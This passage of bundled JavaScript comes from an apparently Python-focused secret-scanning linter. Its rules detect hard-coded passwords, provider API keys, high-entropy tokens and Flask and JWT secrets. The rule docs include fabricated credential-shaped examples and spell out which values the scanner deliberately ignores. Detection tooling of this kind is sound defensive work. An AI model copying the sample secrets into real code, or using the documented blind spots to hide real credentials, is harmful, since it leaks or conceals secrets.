      aliases: ["B106", "S106", "hardcoded_password_funcarg"],
      category: "hardcoded-secret",
      cwe: 259,
      severity: "low",
      confidence: "medium",
      cost: "fast",
      message: "hard-coded password or token passed as a keyword argument",
      fix: "Pass a secret read at run time (environment variable, secret manager) instead of a literal, and rotate the one in the code.",
      // isPasswordName tests PASSWORD_HINT on the keyword name, written in the source. Files with a `pass` statement match
      // too, but leaving out the word `pass` would miss names it is a fragment of (`épass`: words are ASCII runs).
      triggers: [PASSWORD_HINT, "auth"],
      calleeKeywords: AUTH_OR_PASSWORD,
      docs: {
        why: 'A literal credential passed to a client or connection (`connect(password="s3cret")`) is readable by everyone with the repository. An `auth=("user", "password")` pair (requests, httpx) is one too. Keywords that describe a secret (`token_type="Bearer"`, `password_field="pw"`), labels, URLs, empty strings and placeholders are not reported.',
        bad: [
          'import psycopg2\nconn = psycopg2.connect(host="db", user="app", password="s3cr3t-Pa55")\n',
          'import requests\nrequests.get(url, auth=("deploy", "Jenk1ns-D3ploy"), timeout=5)\n'
        ],
        good: [
          'import os, psycopg2\nconn = psycopg2.connect(host="db", password=os.environ["DB_PASSWORD"])\n',
          'import os, requests\nrequests.get(url, auth=("deploy", os.environ["JENKINS_TOKEN"]), timeout=5)\n',
          'from oauthlib.oauth2 import OAuth2Token\ntoken = OAuth2Token(access_token=value, token_type="Bearer")\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/259.html"]
      },
      create(context) {
        return {
          call(node) {
            for (const arg of argumentList(node)) {
              if (arg.type !== "keyword_argument")
                continue;
              const name = arg.childForFieldName("name")?.text;
              const value = arg.childForFieldName("value");
              if (!name || !value)
                continue;
              const password = name === "auth" ? basicAuthPassword(value) : void 0;
              if (password) {
                const text2 = literalString(password);
                if (!notASecret("password", text2))
                  context.report({ node: arg, message: "hard-coded password passed in auth=(user, password)", credential: credentialIn(password, "name") });
                continue;
              }
              if (!isPasswordName(name))
                continue;
              const text = literalString(value);
              if (text === void 0 || notASecret(name, text))
                continue;
              context.report({ node: arg, message: `hard-coded password or token passed as '${name}='`, credential: credentialIn(value, "name") });
            }
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/hardcoded-password-string.js
function check(context, name, value, excuse = notASecret) {
  if (!name || !isPasswordName(name))
    return;
  const text = literalString(value);
  if (text === void 0)
    return;
  if (excuse(name, text)) {
    context.report({ node: value, severity: "low", confidence: "low", auditOnly: true, message: `'${name}' holds an empty string, placeholder, URL, pattern or prose, not a credential (shown by --profile audit)` });
    return;
  }
  context.report({ node: value, message: `hard-coded password or token in '${name}'`, credential: credentialIn(value, "name") });
}
var hardcoded_password_string_default;
var init_hardcoded_password_string = __esm({
  "dist/rules/hardcoded-secret/hardcoded-password-string.js"() {
    "use strict";
    init_types();
    init_password_names();
    init_secret_literals();
    init_redaction();
    hardcoded_password_string_default = defineRule({
      id: "hardcoded-password-string",
      aliases: ["B105", "S105", "hardcoded_password_string"],
      category: "hardcoded-secret",
      cwe: 259,
      severity: "low",
      confidence: "medium",
      cost: "fast",
      message: "hard-coded password or token assigned to a variable, attribute or dict key",
      fix: "Read the secret at run time (environment variable, secret manager, config file outside the repository) and rotate the one in the code.",
      // Every handler tests PASSWORD_HINT on its node's source text first (a key's decoded name need not be written out:
      // `"pass" "word"`), so the word `pass` must stay: `{"pass": "hunter2"}` is reported.
      triggers: [PASSWORD_HINT],
      docs: {
        why: 'A secret in source code is shared with everyone who can read the repository or its history, and cannot be rotated without a release. Field names, labels and messages are not secrets: `token_type = "Bearer"`, `password_field = "password"`, `{"input_token": "NextToken"}`, URLs, empty strings, placeholders (`"<password>"`, `"***"`, `"${TOKEN}"`, `"changeme"`), validation patterns and prose are not reported; weak real values such as `"MyNewPass"`, `"SuperSecretPassword"` or `EMAIL_PASSWORD = "secret"` are. A value that only names the secret (`PASSWORD = "password"`, `"X-Auth-Token"`, `"auth_token"`, the way form-field, header and dict-key constants are written) is read as a label, so that weak password is missed on purpose. In comparisons, capitalised keywords and words under four characters (`token == "COLLATE"`, parser code) are skipped too.',
        bad: ['password = "hunter2"\n', 'config = {"password": "12345"}\n', 'class Client:\n    def __init__(self):\n        self.api_token = "a8f5f167f44f4964e6c998dee827110c"\n'],
        good: [
          'token_type = "Bearer"\n',
          'password_field = "password"\n',
          'PAGINATOR = {"input_token": "NextToken", "output_token": "NextToken"}\n',
          'import os\npassword = os.environ["DB_PASSWORD"]\n',
          'token_fail_reason = "Token has expired"\n',
          'reset_password_url = "https://example.com/reset"\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/259.html", "https://cwe.mitre.org/data/definitions/798.html"]
      },
      create(context) {
        return {
          assignment(node) {
            if (!PASSWORD_HINT.test(node.text))
              return;
            const left = node.childForFieldName("left");
            let right = node.childForFieldName("right");
            while (right?.type === "assignment")
              right = right.childForFieldName("right");
            if (!left || !right)
              return;
            if (["pattern_list", "tuple_pattern", "tuple", "expression_list", "list_pattern"].includes(left.type)) {
              const values = ["tuple", "expression_list", "list"].includes(right.type) ? right.namedChildren : [];
              left.namedChildren.forEach((target, index) => {
                if (values[index])
                  check(context, targetName(target), values[index]);
              });
              return;
            }
            check(context, targetName(left), right);
          },
          pair(node) {
            if (!PASSWORD_HINT.test(node.text))
              return;
            const key = node.childForFieldName("key");
            const value = node.childForFieldName("value");
            if (key && value)
              check(context, literalString(key), value);
          },
          comparison_operator(node) {
            if (!PASSWORD_HINT.test(node.text))
              return;
            const operands = node.namedChildren;
            const operators = node.children.filter((child) => !child.isNamed).map((child) => child.type);
            if (operands.length !== 2 || !["==", "!="].includes(operators[0] ?? ""))
              return;
            const [left, right] = operands;
            check(context, targetName(left), right, notASecretComparison);
            check(context, targetName(right), left, notASecretComparison);
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/hardcoded-provider-secret.js
function literalOrComment(token) {
  if (token.type === "comment")
    return token;
  let node = token;
  for (let depth = 0; node && node.type !== "string" && depth < 3; depth++)
    node = node.parent;
  if (node?.type !== "string")
    return void 0;
  if (node.parent?.type === "concatenated_string")
    node = node.parent;
  let chain;
  for (let parent = node.parent; parent && (parent.type === "binary_operator" || parent.type === "parenthesized_expression"); parent = parent.parent) {
    if (parent.type === "binary_operator" && concatenatedLiterals(parent))
      chain = parent;
  }
  return chain ?? node;
}
function concatenatedLiterals(node) {
  if (node.type === "string" || node.type === "concatenated_string")
    return [node];
  if (node.type === "parenthesized_expression" && node.namedChildren.length === 1)
    return concatenatedLiterals(node.namedChildren[0]);
  if (node.type !== "binary_operator" || node.childForFieldName("operator")?.type !== "+")
    return void 0;
  const left = node.childForFieldName("left");
  const right = node.childForFieldName("right");
  const leftParts = left && concatenatedLiterals(left);
  const rightParts = right && concatenatedLiterals(right);
  return leftParts && rightParts ? [...leftParts, ...rightParts] : void 0;
}
var hardcoded_provider_secret_default, SCAN_HINTS;
var init_hardcoded_provider_secret = __esm({
  "dist/rules/hardcoded-secret/hardcoded-provider-secret.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_secret_literals();
    init_provider_secret_scan();
    init_provider_formats();
    init_redaction();
    hardcoded_provider_secret_default = defineRule({
      id: "hardcoded-provider-secret",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 798,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "a credential in a service provider's exact format is in the source",
      fix: "Revoke the credential at the provider now (it is in the history even once removed), then read it at run time from the environment or a secret manager.",
      triggers: PROVIDER_HINTS,
      docs: {
        why: "Provider keys (AWS, GitHub, GitLab, Slack, Stripe, Google, Azure, Twilio, SendGrid, npm, PyPI, OpenAI, Anthropic), private keys and database URLs with a password are usable by anyone who reads the repository, its forks, clones, CI logs or history. Every string literal (concatenated ones joined, f-string constant parts, bytes, docstrings) and comment is scanned; formats with a checksum (GitHub, npm) must have a valid one, and documented examples (`AKIAIOSFODNN7EXAMPLE`) and stand-ins (`xxxx`, `<your-key>`, `${TOKEN}`) are not reported. A provider's key is reported at its full level in test code too: a live key in a test is leaked all the same. Private keys and database passwords have no provider to be live at and crypto and database tests hold them as fixtures, so test-code policy applies to them as to other findings. Reports show the provider, the first characters and the length, never the key.",
        // Fabricated keys, written in two parts so that secret scanners reading this file do not take them for leaks.
        bad: [
          `STRIPE_API_KEY = "sk_${"live"}_iVEmus6yo8Lz9uTWulKMtW2bIQ8Y"
`,
          `import boto3
s3 = boto3.client("s3", aws_access_key_id="AK${"IA"}CJFC6ZDKYZWPDVDG")
`,
          `# token for the release bot: gh${"p"}_s24XMleUNz8SmFOFlAmPp27k4xuAAU3bS0rT
RELEASE_REPO = "acme/app"
`,
          'DATABASE_URL = "postgresql://app:Xq7vR2pLm9Tz@db-prod.internal:5432/app"\n'
        ],
        good: [
          'import os\nSTRIPE_API_KEY = os.environ["STRIPE_API_KEY"]\n',
          'AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"  # the key AWS documents as an example\n',
          'STRIPE_TEST_KEY = "sk_test_4eC39HqLyjWDarjtT1zdp7dc"\n',
          'GITHUB_TOKEN = "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"\n',
          'DATABASE_URL = "postgresql://app:${DB_PASSWORD}@db-prod.internal/app"\n',
          'TEST_DB = "postgresql://nova:nova@localhost/nova"\n'
        ],
        references: [
          "https://cwe.mitre.org/data/definitions/798.html",
          "https://github.blog/engineering/platform-security/behind-githubs-new-authentication-token-formats/",
          "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html#identifiers-unique-ids"
        ]
      },
      create(context) {
        const reported = /* @__PURE__ */ new Set();
        const report = (node, found) => {
          const key = `${statementOf(node).startIndex}\0${found.secret}`;
          if (reported.has(key))
            return;
          reported.add(key);
          context.report({
            node,
            message: `${found.provider} (${describeSecret(found.secret)}) hard-coded in the source: ${found.evidence === "provider-format" ? "revoke it at the provider" : "replace it"} and read it at run time`,
            credential: { evidence: found.evidence, fragments: secretFragments(found.secret) }
          });
        };
        const scan = (node, texts) => {
          for (const text of texts)
            for (const found of findProviderSecrets(text))
              report(node, found);
        };
        const named = (name, value) => {
          if (!name || !value)
            return;
          const text = literalString(value);
          const found = text === void 0 ? void 0 : findNamedSecret(name, text);
          if (found)
            report(value, found);
        };
        const namedHandlers = NAMED_FORMATS.some((format) => context.module.sourceMatches(format.name)) ? {
          assignment(node) {
            const left = node.childForFieldName("left");
            if (left)
              named(targetName(left), node.childForFieldName("right"));
          },
          keyword_argument(node) {
            named(node.childForFieldName("name")?.text, node.childForFieldName("value"));
          },
          pair(node) {
            const key = node.childForFieldName("key");
            if (key)
              named(literalString(key), node.childForFieldName("value"));
          }
        } : {};
        return {
          ...namedHandlers,
          // Only the literals and comments holding a format's start are read: found from the text, not by visiting all.
          module(root) {
            const scanned = /* @__PURE__ */ new Set();
            for (const hint of SCAN_HINTS) {
              for (const match of context.module.source.matchAll(hint)) {
                const holder = literalOrComment(root.descendantForIndex(match.index, match.index + match[0].length));
                if (!holder || scanned.has(holder.startIndex))
                  continue;
                scanned.add(holder.startIndex);
                scan(holder, holder.type === "comment" ? [holder.text] : holder.type === "binary_operator" ? [concatenatedLiterals(holder).flatMap(literalPieces).join("")] : literalPieces(holder));
              }
            }
          }
        };
      }
    });
    SCAN_HINTS = PROVIDER_HINTS.map((hint) => new RegExp(hint.source, `${hint.flags}g`));
  }
});

// dist/rules/hardcoded-secret/support/secret-names.js
function isSecretName(name) {
  if (isDescribingName(name))
    return false;
  if (isPasswordName(name))
    return true;
  const words2 = nameWords(name);
  return words2.some((word, index) => SECRET_WORDS.has(word) || word === "key" && index > 0 && KEY_QUALIFIERS.has(words2[index - 1]));
}
var SECRET_WORDS, KEY_QUALIFIERS;
var init_secret_names = __esm({
  "dist/rules/hardcoded-secret/support/secret-names.js"() {
    "use strict";
    init_password_names();
    SECRET_WORDS = /* @__PURE__ */ new Set(["secret", "secrets", "apikey", "credential", "credentials", "privatekey", "passphrase"]);
    KEY_QUALIFIERS = /* @__PURE__ */ new Set(["api", "access", "private", "secret", "signing", "encryption", "client", "master", "auth", "app", "hmac", "jwt", "license", "crypt", "cipher", "session"]);
  }
});

// dist/rules/hardcoded-secret/support/entropy.js
function characterSet(value) {
  if (/^(?:[0-9a-f]+|[0-9A-F]+)$/.test(value))
    return HEX;
  if (/^[A-Za-z0-9+/_-]+={0,2}$/.test(value))
    return BASE64;
  if (/^[\x21-\x7e]+$/.test(value))
    return PRINTABLE;
  return void 0;
}
function shannonEntropy(value) {
  const counts = /* @__PURE__ */ new Map();
  for (const char of value)
    counts.set(char, (counts.get(char) ?? 0) + 1);
  let entropy = 0;
  for (const count of counts.values()) {
    const p = count / value.length;
    entropy -= p * Math.log2(p);
  }
  return entropy;
}
function randomness(value, set) {
  return shannonEntropy(value) / Math.log2(Math.min(value.length, set.size));
}
function looksRandom(value) {
  const set = characterSet(value);
  if (!set || value.length < set.minLength || randomness(value, set) < RANDOMNESS_THRESHOLD)
    return false;
  const classes = [/[a-z]/, /[A-Z]/, /[0-9]/, /[^A-Za-z0-9]/].filter((kind) => kind.test(value)).length;
  return set.name === "hex" ? /[0-9]/.test(value) && /[a-fA-F]/.test(value) : classes >= 3 || classes === 2 && /[0-9]/.test(value) && value.length >= 32;
}
var HEX, BASE64, PRINTABLE, RANDOMNESS_THRESHOLD;
var init_entropy = __esm({
  "dist/rules/hardcoded-secret/support/entropy.js"() {
    "use strict";
    HEX = { name: "hex", size: 16, minLength: 20 };
    BASE64 = { name: "base64", size: 64, minLength: 20 };
    PRINTABLE = { name: "printable", size: 94, minLength: 16 };
    RANDOMNESS_THRESHOLD = 0.8;
  }
});

// dist/rules/insecure-config/support/django-settings.js
function isDjangoSettingsModule(module2) {
  let verdict = verdicts.get(module2);
  if (verdict === void 0) {
    verdict = judge(module2);
    verdicts.set(module2, verdict);
  }
  return verdict;
}
function judge(module2) {
  const names = [...module2.scopeFor(module2.root).bindings.keys()];
  const django = names.filter((name) => DJANGO_SETTINGS.has(name)).length;
  const shared = names.filter((name) => SHARED_SETTINGS.has(name)).length;
  if (django >= 2 || django >= 1 && shared >= 1)
    return true;
  return django + shared >= 1 && importsSettingsWildcard(module2);
}
function importsSettingsWildcard(module2) {
  return module2.imports.statements.some(({ node }) => {
    if (node.type !== "import_from_statement" || !node.namedChildren.some((child) => child.type === "wildcard_import"))
      return false;
    const from = node.childForFieldName("module_name")?.text ?? "";
    return from.startsWith(".") || from.split(".").includes("settings");
  });
}
function moduleLevelSetting(assignment, names) {
  const left = assignment.childForFieldName("left");
  let value = assignment.childForFieldName("right");
  if (left?.type !== "identifier" || !names.has(left.text) || !value)
    return void 0;
  if (enclosingFunction(assignment) || enclosingClass(assignment))
    return void 0;
  while (value?.type === "assignment")
    value = value.childForFieldName("right");
  return value ? { name: left.text, value } : void 0;
}
function isFrameworkDefaultSettings(module2) {
  const first = module2.root.namedChildren.find((child) => child.type !== "comment");
  const docstring = first?.type === "expression_statement" && first.firstNamedChild?.type === "string" ? first.firstNamedChild.text : "";
  return /^(?:[rRuU]?)(?:"""|''')\s*Default Django settings\b/.test(docstring);
}
function moduleSettingConstant(module2, name) {
  let found;
  for (const statement of module2.root.namedChildren) {
    const assignment = statement.type === "expression_statement" ? statement.firstNamedChild : null;
    if (assignment?.type !== "assignment")
      continue;
    const setting = moduleLevelSetting(assignment, /* @__PURE__ */ new Set([name]));
    if (setting)
      found = module2.constant(setting.value);
  }
  return found;
}
var DJANGO_SETTINGS, SHARED_SETTINGS, verdicts;
var init_django_settings = __esm({
  "dist/rules/insecure-config/support/django-settings.js"() {
    "use strict";
    init_syntax();
    DJANGO_SETTINGS = /* @__PURE__ */ new Set([
      "INSTALLED_APPS",
      "MIDDLEWARE",
      "MIDDLEWARE_CLASSES",
      "DATABASES",
      "ROOT_URLCONF",
      "ALLOWED_HOSTS",
      "WSGI_APPLICATION",
      "ASGI_APPLICATION",
      "AUTH_PASSWORD_VALIDATORS",
      "DEFAULT_AUTO_FIELD",
      "TEMPLATES",
      "STATICFILES_DIRS",
      "STATICFILES_STORAGE",
      "AUTH_USER_MODEL",
      "CSRF_TRUSTED_ORIGINS",
      "SESSION_COOKIE_SECURE",
      "CSRF_COOKIE_SECURE",
      "SESSION_COOKIE_HTTPONLY",
      "SESSION_ENGINE",
      "SECURE_SSL_REDIRECT",
      "SECURE_HSTS_SECONDS",
      "SECURE_PROXY_SSL_HEADER",
      "LOGIN_REDIRECT_URL",
      "USE_I18N",
      "USE_L10N",
      "LANGUAGE_CODE",
      "STATIC_URL",
      "STATIC_ROOT",
      "MEDIA_URL",
      "MEDIA_ROOT",
      "DJANGO_SETTINGS_MODULE"
    ]);
    SHARED_SETTINGS = /* @__PURE__ */ new Set(["DEBUG", "SECRET_KEY", "TIME_ZONE", "USE_TZ", "CACHES", "LOGGING", "EMAIL_BACKEND", "ADMINS"]);
    verdicts = /* @__PURE__ */ new WeakMap();
  }
});

// dist/rules/hardcoded-secret/support/flask-secret-targets.js
function isAppObject(node, module2) {
  if (!node || !module2.importsModule("flask"))
    return false;
  const name = node.type === "attribute" ? node.childForFieldName("attribute")?.text : node.text;
  return node.type !== "call" && /(?:^|_)app(?:lication)?$/i.test(name ?? "");
}
function isAppConfig(node, module2) {
  return node?.type === "attribute" && node.childForFieldName("attribute")?.text === "config" && isAppObject(node.childForFieldName("object"), module2);
}
function isFlaskSecretKeyTarget(target, module2) {
  if (target.type === "attribute")
    return target.childForFieldName("attribute")?.text === "secret_key" && isAppObject(target.childForFieldName("object"), module2);
  if (target.type !== "subscript")
    return false;
  const key = target.childForFieldName("subscript");
  return key !== null && FLASK_SECRET_SETTINGS.has(literalString(key) ?? "") && isAppConfig(target.childForFieldName("value"), module2);
}
function isFlaskSecretKeyArgument(keyword, module2) {
  if (!FLASK_SECRET_SETTINGS.has(keyword.childForFieldName("name")?.text ?? ""))
    return false;
  const call = keyword.parent?.parent;
  const callee = call?.type === "call" ? call.childForFieldName("function") : null;
  return callee?.type === "attribute" && CONFIG_WRITERS.has(callee.childForFieldName("attribute")?.text ?? "") && isAppConfig(callee.childForFieldName("object"), module2);
}
var FLASK_SECRET_SETTINGS, CONFIG_WRITERS;
var init_flask_secret_targets = __esm({
  "dist/rules/hardcoded-secret/support/flask-secret-targets.js"() {
    "use strict";
    init_secret_literals();
    FLASK_SECRET_SETTINGS = /* @__PURE__ */ new Set(["SECRET_KEY", "JWT_SECRET_KEY", "WTF_CSRF_SECRET_KEY", "SECURITY_PASSWORD_SALT", "SECURITY_TOTP_SECRETS"]);
    CONFIG_WRITERS = /* @__PURE__ */ new Set(["update", "from_mapping", "setdefault"]);
  }
});

// dist/rules/hardcoded-secret/support/generic-secret.js
function hasSequence(value) {
  let run = 1;
  for (let index = 1; index < value.length; index++) {
    run = value.charCodeAt(index) - value.charCodeAt(index - 1) === 1 ? run + 1 : 1;
    if (run >= 6)
      return true;
  }
  return false;
}
function notAGenericSecret(name, value) {
  const excuse = notASecret(name, value);
  if (excuse)
    return excuse;
  if (isStandInValue(value))
    return "stand-in";
  if (EMPTY_INPUT_DIGESTS.has(value.toLowerCase()))
    return "digest of empty input";
  if (/^(?:pk_(?:live|test)|[sr]k_test)_/.test(value))
    return "public or test-mode key";
  if (/^(?:[A-Z0-9]+(?:_[A-Z0-9]+)+|[a-z0-9]+(?:_[a-z0-9]+)+)$/.test(value))
    return "identifier";
  if (hasSequence(value))
    return "sequence";
  if (!looksRandom(value))
    return "not random";
  const letters = value.replace(/[^A-Za-z]/g, "");
  if (!/^[0-9a-fA-F]+$/.test(value) && letters.length > 0 && (letters.match(/[aeiou]/gi)?.length ?? 0) / letters.length > 0.35)
    return "words";
  if (findProviderSecrets(value).length > 0 || findNamedSecret(name, value))
    return "provider format";
  return void 0;
}
var EMPTY_INPUT_DIGESTS;
var init_generic_secret = __esm({
  "dist/rules/hardcoded-secret/support/generic-secret.js"() {
    "use strict";
    init_password_names();
    init_entropy();
    init_provider_secret_scan();
    init_provider_formats();
    EMPTY_INPUT_DIGESTS = /* @__PURE__ */ new Set([
      "d41d8cd98f00b204e9800998ecf8427e",
      // MD5
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      // SHA-1
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
      // SHA-256
      "38b060a751ac96384cd9327eb1b1e36a21fdb71114be07434c0cc7bf63f6e1da274edebfe76f65fbd51ad2f14898b95b",
      // SHA-384
      "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"
      // SHA-512
    ]);
  }
});

// dist/rules/hardcoded-secret/hardcoded-high-entropy-secret.js
function isNameCharacter(code) {
  return code >= 48 && code <= 57 || code >= 65 && code <= 90 || code >= 97 && code <= 122 || code === 95 || code === 45;
}
function secretNamesIn(source) {
  const occurrences = [];
  const judged = /* @__PURE__ */ new Map();
  let wordEnd = 0;
  for (const hint of source.matchAll(NAME_HINT)) {
    if (hint.index < wordEnd)
      continue;
    let start = hint.index;
    while (start > 0 && isNameCharacter(source.charCodeAt(start - 1)))
      start--;
    wordEnd = hint.index + hint[0].length;
    while (wordEnd < source.length && isNameCharacter(source.charCodeAt(wordEnd)))
      wordEnd++;
    const name = source.slice(start, wordEnd);
    let secret = judged.get(name);
    if (secret === void 0)
      judged.set(name, secret = isSecretName(name));
    if (secret)
      occurrences.push({ name, start, end: wordEnd });
  }
  return occurrences;
}
function sameNode(a, b) {
  return !!a && a.startIndex === b.startIndex && a.endIndex === b.endIndex && a.type === b.type;
}
function storedValue(token) {
  let target = token.type === "string_content" ? token.parent : token.type === "identifier" ? token : null;
  let owner = target?.parent;
  if (!target || !owner)
    return void 0;
  if (["keyword_argument", "default_parameter", "typed_default_parameter", "pair"].includes(owner.type)) {
    const value2 = owner.childForFieldName("value");
    return sameNode(owner.childForFieldName(owner.type === "pair" ? "key" : "name"), target) && value2 ? { place: owner, value: value2 } : void 0;
  }
  if (owner.type === "attribute" && sameNode(owner.childForFieldName("attribute"), target) || owner.type === "subscript" && sameNode(owner.childForFieldName("subscript"), target)) {
    target = owner;
    owner = owner.parent;
  }
  if (owner?.type !== "assignment" || !sameNode(owner.childForFieldName("left"), target))
    return void 0;
  let value = owner.childForFieldName("right");
  while (value?.type === "assignment")
    value = value.childForFieldName("right");
  return value ? { place: target, value } : void 0;
}
function mayHoldRandomLiteral(source) {
  for (const [, value] of source.matchAll(LONG_LITERAL))
    if (looksRandom(value))
      return true;
  return ADJACENT_LITERALS.test(source);
}
var NAME_HINT, LONG_LITERAL, ADJACENT_LITERALS, hardcoded_high_entropy_secret_default;
var init_hardcoded_high_entropy_secret = __esm({
  "dist/rules/hardcoded-secret/hardcoded-high-entropy-secret.js"() {
    "use strict";
    init_types();
    init_secret_literals();
    init_secret_names();
    init_entropy();
    init_redaction();
    init_django_settings();
    init_flask_secret_targets();
    init_generic_secret();
    NAME_HINT = /pas|pwd|token|secret|key|credential/gi;
    LONG_LITERAL = /["']([^"'\s]{16,})["']/g;
    ADJACENT_LITERALS = /["'][^"'\s]+["'][ \t]*(?:\\?\r?\n)?[ \t]*[rRbBuU]{0,2}["'][^"'\s]+["']/;
    hardcoded_high_entropy_secret_default = defineRule({
      id: "hardcoded-high-entropy-secret",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 798,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "a random-looking literal is stored under a secret name",
      fix: "Read the secret at run time (environment variable, secret manager) and rotate the committed one.",
      // No triggers: nearly every file writes `key` or `token`, and create() scans the text for secret names anyway.
      docs: {
        why: "A key, token or password made of random characters is almost certainly a real one: a placeholder is readable, a real secret is not. The value's Shannon entropy is compared with what a random string of its character set (hex, base64, printable) and length reaches; at 0.8 of that or more, with the character classes a generated key mixes, it is reported. Outside test code it blocks, whatever the severity threshold: a committed key cannot be taken back. Stand-ins (`changeme`, `<your-key>`, `${VAR}`, `xxxx`), AWS's documented example keys, digests of empty input, identifiers, glued words and values read from the environment or settings are not reported.",
        bad: [
          'API_KEY = "q8ZtL2vN5xR9wK3mJ7pB4cY6"\n',
          'import requests\nrequests.get("https://api.acme.io", headers={"client_secret": "9c1f4a7e2b8d5063f1e9a2c4b7d8e053"}, timeout=5)\n',
          'class Settings:\n    signing_key = "mK7#qL2!vX9@pR4*zN8&"\n'
        ],
        good: [
          'import os\nAPI_KEY = os.environ["API_KEY"]\n',
          'API_KEY = "<your-api-key>"\n',
          'SECRET_KEY = "changeme-in-production"\n',
          'EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"\ntoken_hash = EMPTY_SHA256\n',
          'api_key_id = "k9Xv2LqP7mZ4tR8wN3bY"\n',
          'secret_key = "ThisIsNotARealSecretKey123"\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/798.html", "https://github.com/Yelp/detect-secrets#about"]
      },
      create(context) {
        const { module: module2 } = context;
        const occurrences = secretNamesIn(module2.source);
        if (occurrences.length === 0 || !mayHoldRandomLiteral(module2.source))
          return {};
        const ownRule = (place, name) => isFlaskSecretKeyTarget(place, module2) || place.type === "keyword_argument" && isFlaskSecretKeyArgument(place, module2) || place.type === "identifier" && name === "SECRET_KEY" && isDjangoSettingsModule(module2);
        return {
          module(root) {
            for (const { name, start, end } of occurrences) {
              const stored = storedValue(root.descendantForIndex(start, end));
              if (!stored || ownRule(stored.place, name))
                continue;
              const text = literalString(stored.value);
              if (text === void 0 || notAGenericSecret(name, text))
                continue;
              context.report({
                node: stored.value,
                message: `random-looking secret in '${name}' (${describeSecret(text)}): read it at run time and rotate it`,
                credential: credentialIn(stored.value, "entropy")
              });
            }
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/flask-hardcoded-secret-key.js
var flask_hardcoded_secret_key_default;
var init_flask_hardcoded_secret_key = __esm({
  "dist/rules/hardcoded-secret/flask-hardcoded-secret-key.js"() {
    "use strict";
    init_types();
    init_secret_literals();
    init_redaction();
    init_flask_secret_targets();
    init_password_names();
    flask_hardcoded_secret_key_default = defineRule({
      id: "flask-hardcoded-secret-key",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 798,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "the Flask app's secret key is a literal: everyone with the repository can forge its session cookies",
      fix: 'Read the key from the environment or a secrets store without a literal fallback (`app.secret_key = os.environ["FLASK_SECRET_KEY"]`), and rotate the committed key.',
      triggers: [["flask", "secret_key"], ["flask", "SECRET_KEY"], ["flask", "JWT_SECRET_KEY"], ["flask", "WTF_CSRF_SECRET_KEY"], ["flask", "SECURITY_PASSWORD_SALT"], ["flask", "SECURITY_TOTP_SECRETS"]],
      docs: {
        why: 'Flask signs its session cookie with `SECRET_KEY`: whoever knows the key can write any session (log in as any user) and, with Flask-WTF, Flask-JWT-Extended or Flask-Security, forge CSRF tokens, JWTs and password-reset links. A literal key is known to everyone who can read the repository and its history. Set through `app.secret_key`, `app.config["SECRET_KEY"]` or `app.config.update(SECRET_KEY=...)`; stand-ins (`"dev"`, `"change-me"`) are reported at low severity, empty values not at all.',
        bad: [
          'from flask import Flask\napp = Flask(__name__)\napp.secret_key = "s3cr3t-K3y-for-sessions"\n',
          'from flask import Flask\napp = Flask(__name__)\napp.config["SECRET_KEY"] = "MyNewPass"\n',
          'from flask import Flask\napp = Flask(__name__)\napp.config.update(DEBUG=False, SECRET_KEY="9f8a7c6b5d4e")\n'
        ],
        good: [
          'import os\nfrom flask import Flask\napp = Flask(__name__)\napp.secret_key = os.environ["FLASK_SECRET_KEY"]\n',
          'from flask import Flask\napp = Flask(__name__)\napp.config["SECRET_KEY"] = ""\n',
          'class Client:\n    def __init__(self):\n        self.secret_key = "abc123-not-flask"\n'
        ],
        references: ["https://flask.palletsprojects.com/en/stable/config/#SECRET_KEY", "https://cwe.mitre.org/data/definitions/798.html"]
      },
      create(context) {
        const check2 = (value) => {
          const text = value ? literalString(value) : void 0;
          if (!value || text === void 0 || text.trim() === "")
            return;
          if (announcesStandIn(text)) {
            context.report({ node: value, severity: "low", message: "the Flask secret key is a stand-in literal: make sure every deployment overrides it", credential: credentialIn(value, "name") });
          } else {
            context.report({ node: value, credential: credentialIn(value, "name") });
          }
        };
        return {
          assignment(node) {
            const left = node.childForFieldName("left");
            let right = node.childForFieldName("right");
            while (right?.type === "assignment")
              right = right.childForFieldName("right");
            if (left && isFlaskSecretKeyTarget(left, context.module))
              check2(right);
          },
          keyword_argument(node) {
            if (isFlaskSecretKeyArgument(node, context.module))
              check2(node.childForFieldName("value"));
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/jwt-hardcoded-secret.js
var KEY_ARGUMENT, jwt_hardcoded_secret_default;
var init_jwt_hardcoded_secret = __esm({
  "dist/rules/hardcoded-secret/jwt-hardcoded-secret.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    init_secret_literals();
    init_redaction();
    init_password_names();
    KEY_ARGUMENT = /* @__PURE__ */ new Map([
      ["jwt.encode", 1],
      ["jwt.decode", 1],
      ["jwt.api_jwt.encode", 1],
      ["jwt.api_jwt.decode", 1],
      ["jwt.PyJWT().encode", 1],
      ["jwt.PyJWT().decode", 1],
      ["jwt.decode_complete", 1],
      ["jose.jwt.encode", 1],
      ["jose.jwt.decode", 1],
      ["jose.jws.sign", 1],
      ["jose.jws.verify", 1],
      ["authlib.jose.jwt.encode", 2],
      ["authlib.jose.jwt.decode", 1]
    ]);
    jwt_hardcoded_secret_default = defineRule({
      id: "jwt-hardcoded-secret",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 798,
      severity: "high",
      confidence: "high",
      cost: "fast",
